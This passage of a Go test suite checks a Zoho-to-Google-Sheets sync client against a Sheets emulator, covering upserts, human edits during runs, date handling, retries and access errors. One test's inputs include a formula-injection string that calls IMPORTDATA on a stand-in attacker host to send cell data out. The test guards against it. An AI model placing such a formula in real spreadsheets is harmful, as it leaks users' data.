// Tests of the client against the sheets/sheetstest emulator: the real
// google.golang.org/api/sheets/v4 client over real HTTP (a loopback
// listener, and the emulator's in-process transport where that is cheap),
// with a human editing the sheet between and during runs.

package sheets_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"net/http"
	"slices"
	"sort"
	"strings"
	gosync "sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/rs/zerolog"

	"github.com/zoho2sheets/zoho2sheets/sheets"
	"github.com/zoho2sheets/zoho2sheets/sheets/sheetstest"
	zsync "github.com/zoho2sheets/zoho2sheets/sync"
)

const saEmail = "zoho-sync@demo-project.iam.gserviceaccount.com"

// fakeClock is a clock shared by the emulator (quota windows) and the
// client (request pacing); sleeping advances it instead of waiting.
type fakeClock struct {
	mu     gosync.Mutex
	t      time.Time
	slept  []time.Duration
	sleeps atomic.Int64
}

func newClock() *fakeClock { return &fakeClock{t: time.Now()} }

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) Sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	if d > 0 {
		c.t = c.t.Add(d)
	}
	c.slept = append(c.slept, d)
	c.mu.Unlock()
	c.sleeps.Add(1)
	return ctx.Err()
}

func (c *fakeClock) Slept() []time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]time.Duration(nil), c.slept...)
}

// env is one emulator, a spreadsheet and a client of it.
type env struct {
	opts   []sheets.Option // the client's options
	srv    *sheetstest.Server
	id     string
	client *sheets.Client
	ss     *sheets.Spreadsheet
	clock  *fakeClock
}

type envOpt struct {
	noListener bool
	unshared   bool // do not share the spreadsheet with the service account
	// googleQuota keeps Google's 60 reads and 60 writes per minute in the
	// emulator and the client's default pacing; otherwise both are
	// unlimited.
	googleQuota bool
	// clockNow makes the emulator use the env's fake clock.
	clockNow bool
	opts     []sheets.Option
}

func newEnv(t testing.TB, o envOpt) *env {
	t.Helper()
	e := &env{clock: newClock()}
	so := sheetstest.Options{NoListener: o.noListener, ReadQuota: -1, WriteQuota: -1, Seed: 1}
	if o.googleQuota {
		so.ReadQuota, so.WriteQuota = 0, 0 // Google's 60 per minute
	}
	if o.clockNow {
		so.Now = e.clock.Now
	}
	srv, err := sheetstest.NewServer(so)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Stop)
	e.srv = srv
	key := srv.NewServiceAccount(saEmail)
	e.id = srv.CreateSpreadsheet("CRM", "Europe/Berlin")
	if !o.unshared {
		srv.Share(e.id, saEmail)
	}
	creds, err := sheets.CredentialsFromEnv(context.Background(), func(k string) string {
		if k == sheets.EnvCredentialsJSON {
			return string(key)
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	opts := []sheets.Option{sheets.WithCredentials(creds), sheets.WithEndpoint(srv.URL()),
		sheets.WithSleep(e.clock.Sleep), sheets.WithClock(e.clock.Now)}
	if !o.googleQuota {
		opts = append(opts, sheets.WithQuota(0, 0))
	}
	if o.noListener {
		opts = append(opts, sheets.WithHTTPClient(srv.HTTPClient()))
	}
	e.opts = append(opts, o.opts...)
	e.client, err = sheets.NewClient(context.Background(), e.opts...)
	if err != nil {
		t.Fatal(err)
	}
	if !o.unshared {
		e.ss, err = e.client.Open(context.Background(), e.id, "")
		if err != nil {
			t.Fatal(err)
		}
	}
	return e
}

var cols = []zsync.Column{
	{Header: "Id", Kind: zsync.KindText},
	{Header: "Name", Kind: zsync.KindText},
	{Header: "Amount", Kind: zsync.KindNumber},
}

func rec(id, name string, amt float64) zsync.Row {
	return zsync.Row{Key: id, Cells: []zsync.Cell{zsync.Text(id), zsync.Text(name), zsync.Number(amt)}}
}

func tbl(rows ...zsync.Row) *zsync.Table {
	return &zsync.Table{Sheet: "Leads", Columns: cols, Key: 0, Rows: rows}
}

func (e *env) upsert(t testing.TB, tb *zsync.Table) zsync.UpsertResult {
	t.Helper()
	res, err := e.ss.Upsert(context.Background(), tb, zsync.UpsertOptions{})
	if err != nil {
		t.Fatalf("upsert: %v\n%s", err, e.srv.Table(e.id, tb.Sheet))
	}
	return res
}

// text renders the tab's values as strings.
func (e *env) text(sheet string) [][]string {
	var out [][]string
	for _, r := range e.srv.Values(e.id, sheet) {
		s := []string{}
		for _, v := range r {
			s = append(s, fmt.Sprint(v))
		}
		out = append(out, s)
	}
	return out
}

func (e *env) want(t testing.TB, want [][]string) {
	t.Helper()
	if d := cmp.Diff(want, e.text("Leads"), cmpopts.EquateEmpty()); d != "" {
		t.Errorf("tab (-want +got):\n%s\n%s", d, e.srv.Table(e.id, "Leads"))
	}
}

// records reads the tab as header → value per key (the "Id" column),
// failing on a duplicate key.
func (e *env) records(t testing.TB, sheet string) map[string]map[string]string {
	t.Helper()
	vals := e.text(sheet)
	if len(vals) == 0 {
		return nil
	}
	hdr := vals[0]
	keyCol := -1
	for c, h := range hdr {
		if h == "Id" {
			keyCol = c
		}
	}
	if keyCol < 0 {
		t.Fatalf("no Id column:\n%s", e.srv.Table(e.id, sheet))
	}
	out := map[string]map[string]string{}
	for _, r := range vals[1:] {
		if keyCol >= len(r) || r[keyCol] == "" {
			continue
		}
		m := map[string]string{}
		for c, v := range r {
			if c < len(hdr) && hdr[c] != "" && v != "" {
				m[hdr[c]] = v
			}
		}
		if _, dup := out[r[keyCol]]; dup {
			t.Errorf("key %s twice:\n%s", r[keyCol], e.srv.Table(e.id, sheet))
		}
		out[r[keyCol]] = m
	}
	return out
}

// keyOrder returns the keys in the tab from top to bottom.
func (e *env) keyOrder(sheet string) []string {
	vals := e.text(sheet)
	var out []string
	for _, r := range vals[1:] {
		if len(r) > 0 {
			out = append(out, r[0])
		}
	}
	return out
}

func both(t *testing.T, f func(t *testing.T, o envOpt)) {
	for _, nl := range []bool{false, true} {
		t.Run(fmt.Sprintf("NoListener=%v", nl), func(t *testing.T) { f(t, envOpt{noListener: nl}) })
	}
}

func TestEmulatorUpsertAndRerun(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		res := e.upsert(t, tbl(rec("4150868000000224005", "Acme", 1200.5), rec("2", "Beta", 7)))
		if res.Added != 2 {
			t.Errorf("%+v", res)
		}
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"4150868000000224005", "Acme", "1200.5"}, {"2", "Beta", "7"}})
		if c := e.srv.Cell(e.id, "Leads", 1, 0); c.Value != "4150868000000224005" {
			t.Errorf("long id stored as %#v, want the exact text", c.Value)
		}
		if sh := e.sheet(t, "Leads"); sh.FrozenRows != 1 {
			t.Errorf("header not frozen: %+v", sh)
		}
		before := e.srv.Stats()
		res = e.upsert(t, tbl(rec("4150868000000224005", "Acme", 1200.5), rec("2", "Beta", 7)))
		if res.Requests != 0 || res.Unchanged != 2 || res.CellsWritten != 0 {
			t.Errorf("unchanged rerun: %+v", res)
		}
		after := e.srv.Stats()
		if after.Writes != before.Writes || after.CellsWritten != before.CellsWritten {
			t.Errorf("unchanged rerun wrote: writes %d -> %d, cells %d -> %d", before.Writes, after.Writes, before.CellsWritten, after.CellsWritten)
		}
	})
}

func (e *env) sheet(t testing.TB, title string) sheetstest.SheetInfo {
	t.Helper()
	for _, sh := range e.srv.Sheets(e.id) {
		if sh.Title == title {
			return sh
		}
	}
	t.Fatalf("no tab %q", title)
	return sheetstest.SheetInfo{}
}

// A human's own column, row order and column order survive an upsert that
// changes values and adds a record; only the changed cells are written.
func TestEmulatorHumanLayoutSurvives(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		e.upsert(t, tbl(rec("1", "Acme", 10), rec("2", "Beta", 20), rec("3", "Corp", 30)))
		// The human: a Notes column between Id and Name, Amount dragged to
		// the front, rows sorted by name descending.
		e.srv.InsertColumn(e.id, "Leads", 1, "Notes")
		e.srv.SetCell(e.id, "Leads", 1, 1, "call back")
		e.srv.SetCell(e.id, "Leads", 2, 1, "=1+1") // a human formula is not ours to touch
		e.srv.SetCell(e.id, "Leads", 3, 1, "vip")
		e.srv.MoveColumn(e.id, "Leads", 3, 0) // Amount | Id | Notes | Name
		e.srv.SortRows(e.id, "Leads", 3, false)
		e.want(t, [][]string{
			{"Amount", "Id", "Notes", "Name"},
			{"30", "3", "vip", "Corp"},
			{"20", "2", "=1+1", "Beta"},
			{"10", "1", "call back", "Acme"},
		})
		before := e.srv.Stats()
		res := e.upsert(t, tbl(rec("1", "Acme", 10), rec("2", "Beta", 25), rec("3", "Corp", 30), rec("4", "Delta", 40)))
		if res.Added != 1 || res.Updated != 1 || res.Unchanged != 2 {
			t.Errorf("%+v", res)
		}
		e.want(t, [][]string{
			{"Amount", "Id", "Notes", "Name"},
			{"30", "3", "vip", "Corp"},
			{"25", "2", "=1+1", "Beta"},
			{"10", "1", "call back", "Acme"},
			{"40", "4", "", "Delta"},
		})
		if c := e.srv.Cell(e.id, "Leads", 2, 2); c.Formula != "=1+1" {
			t.Errorf("the human's formula became %+v", c)
		}
		// 1 amount + 3 cells of the new record.
		if got := e.srv.Stats().CellsWritten - before.CellsWritten; got != 4 || res.CellsWritten != 4 {
			t.Errorf("cells written: emulator %d, result %d, want 4", got, res.CellsWritten)
		}
	})
}

// wide is a table whose records i%every == 0 (i = 1..n) are at version v:
// with every 1 a run writes every row, with every 3 it is an incremental
// run that leaves two records in three alone. Its rows are appended
// (packed), as the job's are.
func wide(n, v, every int) *zsync.Table {
	tb := tbl()
	for i := 1; i <= n; i++ {
		if i%every == 0 {
			tb.Append(wideRec(i, v))
		}
	}
	return tb
}

func wideRec(i, v int) zsync.Row {
	id := fmt.Sprint(1000 + i)
	return rec(id, fmt.Sprintf("name %s v%d", id, v), float64(i*100+v))
}

// checkWide checks that every record's cells are its own (version v for
// the records of wide(n, v, every), base for the others) and that the
// human's note is still next to the record it was written for.
func (e *env) checkWide(t *testing.T, n, v, every, base int, notes map[string]string) {
	t.Helper()
	got := e.records(t, "Leads")
	if len(got) != n {
		t.Errorf("%d records, want %d:\n%s", len(got), n, e.srv.Table(e.id, "Leads"))
	}
	for i := 1; i <= n; i++ {
		id := fmt.Sprint(1000 + i)
		vi := base
		if i%every == 0 {
			vi = v
		}
		want := map[string]string{"Id": id, "Name": fmt.Sprintf("name %s v%d", id, vi), "Amount": fmt.Sprint(i*100 + vi)}
		if notes[id] != "" {
			want["Notes"] = notes[id]
		}
		if d := cmp.Diff(want, got[id]); d != "" {
			t.Errorf("record %s (-want +got):\n%s\n%s", id, d, e.srv.Table(e.id, "Leads"))
			return
		}
	}
}

// addNotes puts a human's note on some records, in a column the mapping
// does not own.
func (e *env) addNotes(t *testing.T) map[string]string {
	t.Helper()
	e.srv.InsertColumn(e.id, "Leads", 3, "Notes")
	notes := map[string]string{}
	vals := e.text("Leads")
	for r := 1; r < len(vals); r += 2 {
		id := vals[r][0]
		notes[id] = "note for " + id
		e.srv.SetCell(e.id, "Leads", r, 3, notes[id])
	}
	return notes
}

// A human sort between two runs leaves every value on its own record.
func TestEmulatorSortBetweenRuns(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		const n = 12
		e.upsert(t, wide(n, 0, 1))
		notes := e.addNotes(t)
		asc := make([]string, n) // the records' ids, 1001 to 1012
		for i := range asc {
			asc[i] = fmt.Sprint(1001 + i)
		}
		desc := slices.Clone(asc)
		slices.Reverse(desc)
		e.srv.SortRows(e.id, "Leads", 1, false) // by name ("name 1001 v0"…), descending
		order := e.keyOrder("Leads")
		if d := cmp.Diff(desc, order); d != "" {
			t.Fatalf("sort by name, descending (-want +got):\n%s", d)
		}
		res := e.upsert(t, wide(n, 1, 1))
		if res.Updated != n {
			t.Errorf("%+v", res)
		}
		e.checkWide(t, n, 1, 1, 0, notes)
		if d := cmp.Diff(order, e.keyOrder("Leads")); d != "" {
			t.Errorf("the human's row order changed:\n%s", d)
		}
		// Amounts (101, 201, …, 1001, 1101, 1201) are numbers: Google sorts
		// them by value, where a text sort would put 1001 before 201.
		e.srv.SortRows(e.id, "Leads", 2, true)
		order = e.keyOrder("Leads")
		if d := cmp.Diff(asc, order); d != "" {
			t.Fatalf("sort by amount, ascending (-want +got):\n%s", d)
		}
		res = e.upsert(t, wide(n, 2, 3))
		if res.Updated != n/3 {
			t.Errorf("%+v", res)
		}
		e.checkWide(t, n, 2, 3, 1, notes)
		if d := cmp.Diff(order, e.keyOrder("Leads")); d != "" {
			t.Errorf("the human's row order changed:\n%s", d)
		}
	})
}

// A human acting while a run is under way: whatever they do at whichever
// request, every value ends up on its own record and the human's notes
// stay on theirs.
func TestEmulatorHumanDuringRun(t *testing.T) {
	const n = 12
	type action struct {
		name string
		do   func(e *env)
	}
	actions := []action{
		{"sort", func(e *env) { e.srv.SortRows(e.id, "Leads", 1, false) }},
		{"sort by amount", func(e *env) { e.srv.SortRows(e.id, "Leads", 2, false) }},
		{"insert rows", func(e *env) { e.srv.InsertRows(e.id, "Leads", 2, 3) }},
		{"delete row", func(e *env) { e.srv.DeleteRows(e.id, "Leads", 5, 1) }},
		{"move column", func(e *env) { e.srv.MoveColumn(e.id, "Leads", 1, 2) }},
		{"move rows", func(e *env) { e.srv.MoveRows(e.id, "Leads", 1, 3, 8) }},
	}
	// when: the request before which the human acts.
	whens := map[string]func(r *http.Request) bool{
		"before write": func(r *http.Request) bool {
			return r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/values:batchUpdate")
		},
		"before recheck": func(r *http.Request) bool {
			return r.Method == http.MethodGet && strings.Contains(r.URL.Path, "values:batchGet")
		},
	}
	for _, a := range actions {
		for wname, when := range whens {
			for _, every := range []int{1, 3} {
				t.Run(fmt.Sprintf("%s/%s/every=%d", a.name, wname, every), func(t *testing.T) {
					e := newEnv(t, envOpt{noListener: true})
					e.upsert(t, wide(n, 0, 1))
					notes := e.addNotes(t)
					// "before recheck" skips the first batchGet (the full
					// read): the human acts between planning and writing.
					seen := 0
					var fired atomic.Bool
					e.srv.OnRequest(func(r *http.Request) {
						if !when(r) {
							return
						}
						seen++
						if wname == "before recheck" && seen != 2 {
							return
						}
						if fired.CompareAndSwap(false, true) {
							a.do(e)
						}
					})
					deleted := ""
					if a.name == "delete row" {
						deleted = e.keyOrder("Leads")[4]
					}
					res := e.upsert(t, wide(n, 1, every))
					e.srv.OnRequest(nil)
					if !fired.Load() {
						t.Fatal("the human never acted")
					}
					_ = res
					if deleted != "" {
						// The human deleted a record's row: a table holding
						// the record puts it back (without the human's note,
						// gone with the row); otherwise the record stays
						// deleted until the next full run.
						delete(notes, deleted)
						if i := atoi(deleted) - 1000; i%every != 0 {
							e.upsert(t, wide(n, 0, 1)) // the full run
							e.upsert(t, wide(n, 1, every))
						}
					}
					e.checkWide(t, n, 1, every, 0, notes)
					// A second run finds nothing to do.
					if res := e.upsert(t, wide(n, 1, every)); res.Requests != 0 {
						t.Errorf("run after repair wrote: %+v\n%s", res, e.srv.Table(e.id, "Leads"))
					}
				})
			}
		}
	}
}

// A sort just before rows of deleted records are removed (rows are
// deleted by index) loses no other record: the wrong rows are put back,
// with the human's notes, and the deleted records end up gone.
func TestEmulatorSortDuringRemove(t *testing.T) {
	const e0 = "{id}" // replaced by the spreadsheet id
	for _, when := range []string{e0 + ":batchUpdate", "/values:batchUpdate"} {
		t.Run(when, func(t *testing.T) {
			const n = 12
			e := newEnv(t, envOpt{noListener: true})
			e.upsert(t, wide(n, 0, 1))
			notes := e.addNotes(t)
			var fired atomic.Bool
			e.srv.OnRequest(func(r *http.Request) {
				if strings.HasSuffix(r.URL.Path, strings.Replace(when, e0, e.id, 1)) && fired.CompareAndSwap(false, true) {
					e.srv.SortRows(e.id, "Leads", 2, false)
				}
			})
			tb := wide(n, 1, 3) // changes records 3, 6, 9, 12
			tb.Rows = append(tb.Rows, wideRec(13, 1))
			tb.Deleted = []string{"1002", "1005", "1007"}
			res := e.upsert(t, tb)
			e.srv.OnRequest(nil)
			if !fired.Load() {
				t.Fatal("the human never acted")
			}
			if res.Removed != 3 || res.Added != 1 {
				t.Errorf("%+v", res)
			}
			got := e.records(t, "Leads")
			for _, id := range tb.Deleted {
				if got[id] != nil {
					t.Errorf("deleted record %s still there:\n%s", id, e.srv.Table(e.id, "Leads"))
				}
				delete(got, id)
			}
			want := map[string]map[string]string{}
			for i := 1; i <= n+1; i++ {
				id := fmt.Sprint(1000 + i)
				if slices.Contains(tb.Deleted, id) {
					continue
				}
				v := 0
				if i%3 == 0 || i == 13 {
					v = 1
				}
				want[id] = map[string]string{"Id": id, "Name": fmt.Sprintf("name %s v%d", id, v), "Amount": fmt.Sprint(i*100 + v)}
				if notes[id] != "" {
					want[id]["Notes"] = notes[id]
				}
			}
			if d := cmp.Diff(want, got); d != "" {
				t.Errorf("records (-want +got):\n%s\n%s", d, e.srv.Table(e.id, "Leads"))
			}
			if res := e.upsert(t, tb); res.Requests != 0 {
				t.Errorf("rerun wrote: %+v", res)
			}
		})
	}
}

func atoi(s string) int {
	var n int
	fmt.Sscan(s, &n)
	return n
}

// CRM text that looks like a formula is stored as text, never as a formula.
func TestEmulatorFormulaLikeTextStaysText(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		texts := []string{`=IMPORTDATA("https://evil.example/?"&B2)`, "+1", "-x", "@x", "=1+1", "+49 30 1234567", "0123", "TRUE", "'quoted", "2024-01-15"}
		var rows []zsync.Row
		for i, s := range texts {
			rows = append(rows, zsync.Row{Key: fmt.Sprint(i + 1), Cells: []zsync.Cell{zsync.Text(""), zsync.Text(s), zsync.Number(0)}})
		}
		e.upsert(t, tbl(rows...))
		for i, s := range texts {
			c := e.srv.Cell(e.id, "Leads", i+1, 1)
			if c.Formula != "" || c.Value != s {
				t.Errorf("%q stored as %+v", s, c)
			}
		}
		// And a rerun sees them as unchanged.
		if res := e.upsert(t, tbl(rows...)); res.Requests != 0 || res.Unchanged != len(texts) {
			t.Errorf("rerun: %+v", res)
		}
	})
}

// Dates and datetimes are real date cells: serial numbers with a DATE or
// DATE_TIME format, datetimes in the spreadsheet's zone.
func TestEmulatorDatesAreDateCells(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		dcols := []zsync.Column{{Header: "Id"}, {Header: "Closing", Kind: zsync.KindDate}, {Header: "Modified", Kind: zsync.KindDateTime}}
		row := func(id string, d zsync.Date, ts time.Time) zsync.Row {
			return zsync.Row{Key: id, Cells: []zsync.Cell{zsync.Text(id), zsync.DateCell(d), zsync.DateTime(ts)}}
		}
		ts := time.Date(2024, 1, 15, 10, 30, 0, 0, time.UTC) // 11:30 in Berlin
		tb := &zsync.Table{Sheet: "Deals", Columns: dcols, Rows: []zsync.Row{
			row("1", zsync.Date{Year: 2024, Month: 1, Day: 15}, ts),
			row("2", zsync.Date{Year: 1900, Month: 3, Day: 1}, ts.Add(24*time.Hour)),
		}}
		if _, err := e.ss.Upsert(context.Background(), tb, zsync.UpsertOptions{}); err != nil {
			t.Fatal(err)
		}
		check := func(r int, date, dt float64) {
			t.Helper()
			d := e.srv.Cell(e.id, "Deals", r, 1)
			if !d.IsDate() || d.NumberFormat.Type != "DATE" || d.Value != date {
				t.Errorf("row %d date cell %+v, want %v with a DATE format", r, d, date)
			}
			m := e.srv.Cell(e.id, "Deals", r, 2)
			v, _ := m.Value.(float64)
			if !m.IsDate() || m.NumberFormat.Type != "DATE_TIME" || math.Abs(v-dt) > 1e-6 {
				t.Errorf("row %d datetime cell %+v, want %v with a DATE_TIME format", r, m, dt)
			}
		}
		check(1, 45306, 45306+11.5/24)
		check(2, 61, 45307+11.5/24)
		if f := e.srv.Cell(e.id, "Deals", 1, 1).Formatted; f != "2024-01-15" {
			t.Errorf("date shows as %q", f)
		}
		if f := e.srv.Cell(e.id, "Deals", 1, 2).Formatted; f != "2024-01-15 11:30:00" {
			t.Errorf("datetime shows as %q", f)
		}
		// A later run adds a row and changes a date: still date cells.
		tb.Rows[1] = row("2", zsync.Date{Year: 2025, Month: 12, Day: 31}, ts)
		tb.Rows = append(tb.Rows, row("3", zsync.Date{Year: 2024, Month: 1, Day: 16}, ts))
		res, err := e.ss.Upsert(context.Background(), tb, zsync.UpsertOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if res.Added != 1 || res.Updated != 1 || res.Unchanged != 1 {
			t.Errorf("%+v", res)
		}
		check(2, 46022, 45306+11.5/24)
		check(3, 45307, 45306+11.5/24)
		if res, _ := e.ss.Upsert(context.Background(), tb, zsync.UpsertOptions{}); res.Requests != 0 {
			t.Errorf("rerun with the same dates wrote: %+v", res)
		}
	})
}

// 429 and 5xx answers, and dropped connections, are retried with backoff
// (Google's 30 s minimum for quota errors) and the run completes.
func TestEmulatorRetriesRecover(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		e.srv.InjectFault(sheetstest.Fault{Method: "GET", Path: "/v4/spreadsheets/" + e.id, Status: 500})
		e.srv.InjectFault(sheetstest.Fault{Path: e.id + ":batchUpdate", Status: 503})          // addSheet: provably not applied
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Status: 429, Times: 2}) // quota
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchGet", Status: 502})
		res := e.upsert(t, tbl(rec("1", "Acme", 10), rec("2", "Beta", 20)))
		if res.Added != 2 {
			t.Errorf("%+v", res)
		}
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"1", "Acme", "10"}, {"2", "Beta", "20"}})
		if st := e.srv.Stats(); st.Faults != 5 {
			t.Errorf("faults served %d, want 5", st.Faults)
		}
		quota := 0
		for _, d := range e.clock.Slept() {
			if d >= 30*time.Second {
				quota++
			}
		}
		if quota != 2 {
			t.Errorf("sleeps %v: want two of at least 30 s (429)", e.clock.Slept())
		}
		if n := len(e.sheetTitles()); n != 2 {
			t.Errorf("tabs %v", e.sheetTitles())
		}
		if st := e.client.Stats(); st.Retries != 5 || st.ByStatus[429] != 2 {
			t.Errorf("client stats %+v", st)
		}

		// A value write whose answer was lost (applied, then 500) is
		// repeated safely; a dropped connection too.
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Status: 500, AfterApply: true})
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Drop: true})
		e.upsert(t, tbl(rec("1", "Acme", 11), rec("2", "Beta", 21)))
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"1", "Acme", "11"}, {"2", "Beta", "21"}})

		// A structural write (appending rows) whose answer was lost is not
		// repeated blindly: the tab is read again and nothing is doubled.
		e.srv.InjectFault(sheetstest.Fault{Path: e.id + ":batchUpdate", Status: 500, AfterApply: true})
		e.upsert(t, tbl(rec("1", "Acme", 11), rec("2", "Beta", 21), rec("3", "Corp", 30)))
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"1", "Acme", "11"}, {"2", "Beta", "21"}, {"3", "Corp", "30"}})
	})
}

// A request that never answers, or whose answer stalls half-way, ends at
// the request timeout and is retried like a dropped connection: the run
// completes. A structural write whose answer stalled (it was applied) is
// not repeated blindly: nothing is doubled. A hung token request too.
func TestEmulatorHungRequestsTimeOut(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		const timeout = 400 * time.Millisecond // far above a request's time, even under -race
		o.opts = append(o.opts, sheets.WithRequestTimeout(timeout))
		e := newEnv(t, o)
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchGet", Hang: true})
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchGet", Stall: true})
		e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Hang: true})
		start := time.Now()
		e.upsert(t, tbl(rec("1", "Acme", 10), rec("2", "Beta", 20)))
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"1", "Acme", "10"}, {"2", "Beta", "20"}})
		if st := e.srv.Stats(); st.Faults != 3 {
			t.Errorf("faults served %d, want 3", st.Faults)
		}
		if st := e.client.Stats(); st.Retries < 3 {
			t.Errorf("client stats %+v, want a retry for each of the 3 hung requests", st)
		}

		e.srv.InjectFault(sheetstest.Fault{Path: e.id + ":batchUpdate", Stall: true})
		e.upsert(t, tbl(rec("1", "Acme", 10), rec("2", "Beta", 20), rec("3", "Corp", 30)))
		e.want(t, [][]string{{"Id", "Name", "Amount"}, {"1", "Acme", "10"}, {"2", "Beta", "20"}, {"3", "Corp", "30"}})

		// A new client whose first token request hangs.
		e.srv.InjectFault(sheetstest.Fault{Path: "/token", Hang: true})
		c, err := sheets.NewClient(context.Background(), append(e.opts, sheets.WithRequestTimeout(timeout))...)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := c.Open(context.Background(), e.id, ""); err != nil {
			t.Fatalf("open after a hung token request: %v", err)
		}
		// Four hung requests, each retried at once (the clock is fake):
		// far less than a second of waiting in all.
		if d := time.Since(start); d > 20*timeout+5*time.Second {
			t.Errorf("took %s with a %s request timeout", d, timeout)
		}
	})
}

func (e *env) sheetTitles() []string {
	var out []string
	for _, sh := range e.srv.Sheets(e.id) {
		out = append(out, sh.Title)
	}
	return out
}

// A quota that stays exhausted ends in an error that says what to do.
func TestEmulatorQuotaExhausted(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true})
	e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Status: 429, Times: 100})
	_, err := e.ss.Upsert(context.Background(), tbl(rec("1", "Acme", 10)), zsync.UpsertOptions{})
	var se *sheets.Error
	if !errors.As(err, &se) || se.Status != 429 {
		t.Fatalf("got %v", err)
	}
	mustContain(t, err.Error(), "Quota exceeded", "quota")
	var he zsync.HintError
	if !errors.As(err, &he) || !strings.Contains(he.Hint(), "per minute") {
		t.Errorf("hint of %v", err)
	}
	if got := e.client.Stats().ByStatus[429]; got != sheets.DefaultMaxRetries+1 {
		t.Errorf("%d attempts, want %d", got, sheets.DefaultMaxRetries+1)
	}
}

func mustContain(t testing.TB, s string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			t.Errorf("%q does not contain %q", s, sub)
		}
	}
}

// 403 (not shared), 403 (API disabled) and 404 (unknown id) name the fix.
func TestEmulatorAccessErrorsNameTheFix(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		o.unshared = true
		e := newEnv(t, o)
		ctx := context.Background()

		_, err := e.client.Open(ctx, e.id, "")
		var se *sheets.Error
		if !errors.As(err, &se) || se.Status != 403 {
			t.Fatalf("unshared: %v", err)
		}
		mustContain(t, err.Error(), "The caller does not have permission", "share the spreadsheet with "+saEmail)
		var he zsync.HintError
		if !errors.As(err, &he) || !strings.Contains(he.Hint(), saEmail) {
			t.Errorf("unshared hint: %v", err)
		}

		_, err = e.client.Open(ctx, "1NoSuchSpreadsheetId_abcdefghijklmnopqrstuvw", "")
		if !errors.As(err, &se) || se.Status != 404 {
			t.Fatalf("unknown id: %v", err)
		}
		mustContain(t, err.Error(), "1NoSuchSpreadsheetId_abcdefghijklmnopqrstuvw", "check spreadsheet_id")

		// Shared by URL: works; then the API gets disabled in the project.
		e.srv.Share(e.id, saEmail)
		ss, err := e.client.Open(ctx, "https://docs.google.com/spreadsheets/d/"+e.id+"/edit#gid=0", "")
		if err != nil {
			t.Fatal(err)
		}
		if ss.TimeZone() != "Europe/Berlin" || ss.Title() != "CRM" {
			t.Errorf("opened %q in %q", ss.Title(), ss.TimeZone())
		}
		e.srv.DisableAPI("demo-project")
		_, err = e.client.Open(ctx, e.id, "")
		if !errors.As(err, &se) || se.Status != 403 {
			t.Fatalf("disabled API: %v", err)
		}
		mustContain(t, err.Error(), "enable the Google Sheets API")
	})
}

// on_delete: remove deletes the row, keep leaves it, mark flags it in the
// mark column (and unflags it when the record comes back); a full run
// treats keys missing from the table as deleted.
func TestEmulatorOnDelete(t *testing.T) {
	base := func() *zsync.Table { return tbl(rec("1", "Acme", 10), rec("2", "Beta", 20), rec("3", "Corp", 30)) }
	for _, od := range []zsync.OnDelete{zsync.OnDeleteRemove, zsync.OnDeleteKeep, zsync.OnDeleteMark} {
		t.Run(string(od), func(t *testing.T) {
			e := newEnv(t, envOpt{noListener: true})
			setup := func(tb *zsync.Table) *zsync.Table {
				tb.OnDelete, tb.MarkColumn, tb.MarkText = od, "Deleted", "deleted in Zoho"
				return tb
			}
			e.upsert(t, setup(base()))
			e.srv.InsertColumn(e.id, "Leads", 3, "Notes")
			e.srv.SetCell(e.id, "Leads", 3, 3, "keep me") // on Corp
			e.srv.SortRows(e.id, "Leads", 1, false)       // Corp, Beta, Acme

			// Incremental: record 2 deleted in Zoho.
			inc := setup(tbl(rec("1", "Acme", 11)))
			inc.Deleted = []string{"2", "99"}
			res := e.upsert(t, inc)
			// Full: record 3 is gone too.
			full := setup(tbl(rec("1", "Acme", 11)))
			full.Full = true
			res2 := e.upsert(t, full)
			switch od {
			case zsync.OnDeleteRemove:
				if res.Removed != 1 || res2.Removed != 1 {
					t.Errorf("%+v %+v", res, res2)
				}
				e.want(t, [][]string{{"Id", "Name", "Amount", "Notes"}, {"1", "Acme", "11"}})
			case zsync.OnDeleteKeep:
				if res.Removed+res2.Removed+res.Marked+res2.Marked != 0 {
					t.Errorf("%+v %+v", res, res2)
				}
				e.want(t, [][]string{{"Id", "Name", "Amount", "Notes"}, {"3", "Corp", "30", "keep me"}, {"2", "Beta", "20"}, {"1", "Acme", "11"}})
			case zsync.OnDeleteMark:
				if res.Marked != 1 || res2.Marked != 1 {
					t.Errorf("%+v %+v", res, res2)
				}
				e.want(t, [][]string{{"Id", "Name", "Amount", "Notes", "Deleted"},
